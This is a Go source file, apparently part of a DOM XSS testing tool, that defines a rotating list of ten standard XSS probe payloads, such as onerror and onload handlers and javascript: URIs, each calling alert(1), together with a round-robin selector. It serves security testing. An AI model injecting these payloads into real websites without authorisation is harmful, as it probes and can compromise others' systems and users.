package strategy

// Payloads is the fixed rotating set of 10 canonical XSS strings used by
// active-mode input actions (spec §4.4). Grounded on the teacher's
// pkg/payloads/dom_xss.go buildPayloads() HTML-execution payload family,
// reduced to fixed non-marker-templated strings (SPEC_FULL.md §4.4 ADDED
// note: the interaction strategy's payload set carries no per-payload
// random marker, and the pseudo-taint hooks do no marker matching either).
var Payloads = []string{
	`<img src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<script>alert(1)</script>`,
	`javascript:alert(1)`,
	`<iframe src="javascript:alert(1)">`,
	`<body onload=alert(1)>`,
	`<input onfocus=alert(1) autofocus>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror=alert(1)>`,
	`<textarea autofocus onfocus=alert(1)>`,
}

// PayloadRotation tracks the round-robin index into Payloads.
type PayloadRotation struct {
	next int
}

// Next returns the next payload in rotation, advancing the index.
func (r *PayloadRotation) Next() string {
	p := Payloads[r.next%len(Payloads)]
	r.next++
	return p
}
